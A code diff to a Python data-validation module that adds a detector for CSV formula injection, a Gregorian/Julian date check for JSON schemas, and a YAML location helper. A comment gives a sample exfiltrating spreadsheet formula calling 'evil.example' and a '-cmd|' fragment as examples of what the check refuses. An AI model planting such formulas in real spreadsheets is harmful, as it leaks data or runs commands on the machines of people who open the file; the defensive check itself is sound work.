@@ -8,11 +8,12 @@ all the violations of a file are reported together.
 
 import csv
 import io
+import re
 from functools import cache
 from pathlib import Path
 
 import yaml
-from jsonschema import Draft202012Validator
+from jsonschema import Draft202012Validator, ValidationError, validators
 
 from readertools.errors import BookErrors, SourceError
 from readertools.paths import SCHEMAS
@@ -27,6 +28,20 @@ Loader.add_constructor("tag:yaml.org,2002:timestamp", lambda loader, node: loade
 TYPE_WORDS = {"string": "text", "array": "a list", "object": "a mapping", "integer": "a whole number",
               "number": "a number", "boolean": "true or false", "null": "nothing"}
 PLACEHOLDER = "TODO:"  # what `make new-source` writes where an editor has to fill something in
+# A CSV cell that a spreadsheet opening the file would read as a formula, and run: one that starts
+# (after any spaces) with =, + or @, or with - before anything but a digit, a point or a space
+# (`=HYPERLINK("http://evil.example/?q="&A1,"x")`, `-cmd|…`). Negative numbers stay allowed. Every
+# CSV students download (`book/data/`) is held to it: a dataset's cells by `read_csv`, the texts'
+# by `text.texts.formula_cells`.
+FORMULA = re.compile(r"\s*(?:[=+@]|-(?![\d.\s]|$))")
+
+
+def formula(value: str) -> str | None:
+    """Why a spreadsheet would run the cell as a formula, or None."""
+    found = FORMULA.match(value)
+    if not found:
+        return None
+    return f"starts with {found.group().strip()!r}: a spreadsheet opening the file would run it as a formula"
 
 
 @cache
@@ -46,9 +61,42 @@ def schema(name: str) -> dict:
     return inline(data)
 
 
+MONTH_NAMES = ("January", "February", "March", "April", "May", "June", "July", "August", "September",
+               "October", "November", "December")
+ISO_DATE = re.compile(r"(?P<year>[0-9]{4})(?:-(?P<month>[0-9]{2})(?:-(?P<day>[0-9]{2}))?)?")
+
+
+def calendar_problem(year: int, month: int | None = None, day: int | None = None, julian: bool = False) -> str | None:
+    """Why a year, month and day is no day of the calendar (Gregorian, or with `julian` the Julian
+    calendar of Old Style dates, where every fourth year is a leap year), or None if it is one."""
+    if year < 1:
+        return f"there is no year {year}"
+    if month is not None and not 1 <= month <= 12:
+        return f"there is no month {month}"
+    if day is None or month is None:
+        return None
+    leap = year % 4 == 0 and (julian or year % 100 != 0 or year % 400 == 0)
+    days = (31, 29 if leap else 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31)[month - 1]
+    return None if 1 <= day <= days else f"{MONTH_NAMES[month - 1]} {year} has no day {day} (it has {days})"
+
+
+def _calendar(validator, calendar, instance, schema):
+    """The schemas' `x-calendar: gregorian` (or `julian`): an ISO date (`pattern` checks its form) is a
+    day of that calendar, so `1917-02-30` is refused where the pattern alone let it through."""
+    found = ISO_DATE.fullmatch(instance) if isinstance(instance, str) else None
+    if found:
+        numbers = [int(part) if part else None for part in found.group("year", "month", "day")]
+        problem = calendar_problem(*numbers, julian=calendar == "julian")
+        if problem:
+            yield ValidationError(f"{instance!r} is not a date of the {calendar.capitalize()} calendar: {problem}")
+
+
+Validator = validators.extend(Draft202012Validator, {"x-calendar": _calendar})
+
+
 @cache
 def validator(name: str) -> Draft202012Validator:
-    return Draft202012Validator(schema(name))
+    return Validator(schema(name))
 
 
 def field_descriptions(name: str) -> dict[str, str]:
@@ -176,6 +224,9 @@ def read_csv(path: Path, schema_name: str) -> list[dict]:
                 column = ".".join(map(str, error.absolute_path))
                 problems.append(SourceError(path, _message(error),
                                             place=f"{place}, {column}" if column else place))
+            problems += [SourceError(path, f"{value[:60]!r} {formula(value)} (no figure's text needs to start so: "
+                                     "begin it otherwise)", place=f"{place}, {column}")
+                         for column, value in row.items() if formula(value)]
             rows.append({**row, "_line": line, "_place": place})
     except csv.Error as error:
         problems.append(SourceError(path, f"not valid CSV: {error}", place=f"row {reader.line_num}"))
@@ -220,6 +271,12 @@ def _message(error) -> str:
     if kind == "minItems":
         return f"expected at least {error.validator_value} item(s)"
     return error.message
+
+
+def place_in(data, nodes, keys) -> str | None:
+    """Where a value of a YAML file (`read_yaml`'s data and nodes) stands, as messages name it:
+    `execute.execute_notebooks, line 14`."""
+    return _place("", list(keys), data, nodes)
 
 
 def _place(root: str, keys: list, data, nodes) -> str | None:
